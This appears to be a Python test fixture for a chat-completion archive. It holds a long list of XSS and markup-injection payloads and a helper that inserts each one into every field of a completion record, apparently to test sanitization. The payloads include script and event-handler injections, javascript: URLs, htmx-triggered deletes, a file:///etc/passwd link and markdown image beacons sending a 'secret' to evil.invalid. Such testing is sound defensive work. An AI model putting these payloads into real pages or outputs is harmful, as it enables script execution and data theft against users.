"""Texts that would act if they were anything but text, and a conversation that holds a text in every slot."""

from __future__ import annotations

import re
from typing import Any

from tests.conftest import make_choice, make_completion, say

PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    '<img srcset="https://evil.invalid/1.png 1x" src="//evil.invalid/2.png">', "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import url(https://evil.invalid/x.css);*{background:url(//evil.invalid)}</style>",
    '<p style="background:url(https://evil.invalid/)" class="modal" id="csrf">x</p>',
    '<link rel="stylesheet" href="https://evil.invalid/x.css"><link rel=preload href=//evil.invalid as=image>',
    '<base href="https://evil.invalid/">', '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
    '<form action="https://evil.invalid/"><input name=q autofocus onfocus=alert(1)><button formaction=x>go</button></form>',
    '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,x"></object><embed src=x><video poster=//evil.invalid><audio src=//evil.invalid>',
    '<div hx-post="/keys/1/delete" hx-trigger="load" hx-on:load="alert(1)" data-hx-get="/x">x</div>',
    '<a href="javascript:alert(1)" data-citation hx-get="/x" ping="//evil.invalid" download>x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a><a href=" javascript:alert(1)">y</a><a href="//evil.invalid">z</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><a href="vbscript:x">y</a><a href="/keys/">z</a>',
    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>x</dialog><copy-text><input></copy-text>",
    '<template><script>alert(1)</script></template><slot name="x"></slot><custom-thing onclick=x></custom-thing>',
    '<figure class="code evil" onclick=x><pre tabindex="5" id=x><code class="language-python evil">a</code></pre>',
    "<!-- <script>alert(1)</script> --!><![CDATA[<script>]]><?php echo 1 ?><!DOCTYPE html>", "<plaintext>",
    "<textarea></textarea><xmp><b>", "<a title='\"><script>alert(1)</script>'>", "</p></div></article><b>",
    "{{7*7}} {% debug %} ${7*7} <%= 1 %>", "![beacon](https://evil.invalid/p.png?d=secret)",
    "![x](//evil.invalid/p)", "![x](data:image/svg+xml,<svg onload=1>)",
    "![\"onerror=alert(1) x=\"](x\"onerror=alert(1))", "![![a](https://evil.invalid/a)](https://evil.invalid/b)",
    "[![a](https://evil.invalid/a)](javascript:alert(1))", "![x][r]\n\n[r]: https://evil.invalid/p \"t\"",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))",
    "[x](java\\\nscript:alert(1))", "[x](<java script:alert(1)>)", "[x](data:text/html;base64,PHN=)",
    "[x](vbscript:x)", "[x](file:///etc/passwd)", "[x](/keys/1/delete)", "[x](//evil.invalid)", "[x](?delete=1)",
    "[x](#top)", "[x](https:evil)", "[x](https:\\\\evil)", "[x](http:///evil)", "[x](https://%00)", "[x](https://[)",
    "[x](mailto:)", "<javascript:alert(1)>", "<data:text/html,x>",
    "[x]\n\n[x]: javascript:alert(1) 'title\"onclick=x'", "[x](https://a.example \"t\\\" onmouseover=alert(1)\")",
    "[[x](javascript:alert(1))](https://a.example)", "[a](https://a.example)[b](javascript:x)",
    "[x](https://a.example/\"onclick=x)", "www.a.example\"onclick=x", "https://a.example/<script>",
    "<https://a.example/\"onclick=x>", "a@b.example\"onclick=x", "xmpp:a@b.example ftp://a.example tel:123",
    "```\"><script>alert(1)</script>\nx\n```", "```html\n<script>alert(1)</script>\n```",
    "```js\n\"</code></pre><script>alert(1)</script>\"\n```", "|<script>|\n|-|\n|<img src=x onerror=y>|",
    "- [x] <input onfocus=x>", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\\(<script>alert(1)</script>\\)", "$$<img src=x>$$", "`<script>|</script>`", "# <svg onload=alert(1)>",
    "<button hx-delete='/keys/1/' hx-trigger='load, mouseenter' hx-vals='js:{x:alert(1)}' hx-confirm=x>x</button>",
    "<p hx-trigger='load[alert(1)]' hx-get=/login/ hx-ext=x hx-headers='{}'>x</p><p hx-boost=true><a href=/x>x</a></p>",
    "<marquee onstart=alert(1)>x</marquee><input type=image src=//evil.invalid/i><body onload=alert(1) background=//evil.invalid>",
    "<img srcset='https://evil.invalid/a.png, //evil.invalid/b.png 2x'><picture><source srcset=//evil.invalid/c></picture>",
    "<svg><use href='//evil.invalid/u.svg#x'/><animate onbegin=alert(1) attributeName=x /><style>*{fill:url(//evil.invalid)}</style>",
    "<math href='javascript:alert(1)'><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<script type=module>import '//evil.invalid/m.js'</script>",
    "<a href=https://evil.invalid ping=//evil.invalid autofocus onfocus=alert(1) tabindex=1 accesskey=x popovertarget=x>x</a>",
    "<select autofocus onfocus=alert(1)><option>x</select><style>@font-face{font-family:x;src:url(//evil.invalid)}</style>",
    "<reading-place><load-image data-host=x><a href=//evil.invalid>x</a></load-image></reading-place><count-down seconds=1>",
    "> <script>\n> alert(1)\n> </script>", "<x\n\nonclick=alert(1)>",
]  # fmt: skip


def hold_everywhere(text: str, completion_id: str) -> dict[str, Any]:
    """A completion with a text in every slot that takes one."""
    image = {"type": "image_url", "image_url": {"url": f"https://remote.invalid/{text}", "detail": text}}
    parts = [
        {"type": "text", "text": text},
        image,
        {"type": "image_url", "image_url": text},
        {"type": "input_audio", "input_audio": {"data": text, "format": text}},
        {"type": "file", "file": {"filename": text, "file_id": text, "file_data": text}},
        {"type": "file", "file": {"filename": text, "file_data": "JVBERi0xLjc="}},
        {"type": "refusal", "refusal": text},
        {"type": text, text: text},
        text,
        [text],
    ]
    cited = [_cite(f"https://a.example/{n}?{text}", text, n) for n in range(3)]
    cited += [_cite(text, text, 0), _cite(text, "", 0), {"type": text, text: text}]
    calls = [
        {"id": text, "type": "function", "function": {"name": text, "arguments": text}},
        {"id": text, "type": "function", "function": {"name": text, "arguments": {text: text}}},
        {"id": text, "type": "custom", "custom": {"name": text, "input": text}},
        {"id": text, "type": text, "name": text, text: text},
        text,
    ]
    spoken = {"id": text, "data": text, "transcript": text, "expires_at": 1}
    messages = [
        say("system", text, name=text),
        say("developer", None, content_parts=parts, name=text),
        say("user", text, content_parts=parts, name=text),
        say("assistant", text, name=text, tool_calls=calls, annotations=cited, refusal=text, audio=spoken),
        say("tool", text, tool_call_id=text, name=text),
        say("tool", None, content_parts=[{"type": "text", "text": text}], tool_call_id=text),
        say("tool", {"error": text}, tool_call_id=text),
        say("assistant", None, function_call={"name": text, "arguments": text}, reasoning_content=text, **{text: text}),
        say("assistant", None, audio={"id": text}, reasoning=text),
        say("function", text, name=text),
        say(text, text, tool_calls=text, annotations=[text], audio=text),
        say("assistant", {text: text}),
        {"id": as_id(text), **say("user", text)},
    ]
    answers = [
        make_choice(text, finish_reason=text, annotations=cited, tool_calls=calls, audio=spoken, **{text: text}),
        make_choice(None, 1, refusal=text, finish_reason=text, role=text, reasoning=text, content_parts=parts),
    ]
    return make_completion(
        completion_id,
        *messages,
        model=text[:250],
        metadata={text[:60]: text, "plain": text},
        choices=answers,
        service_tier=text,
        tool_choice={text: text},
        system_fingerprint=text,
    )


def as_id(text: str) -> str:
    """Make an id of a text: the archive takes none with blanks, nor with what parts an address."""
    return re.sub(r"[\s/\\?#%]", "", text)[:200]


def _cite(url: str, title: str, at: int) -> dict[str, Any]:
    return {
        "type": "url_citation",
        "url_citation": {"url": url, "title": title, "start_index": at, "end_index": at + 3},
    }
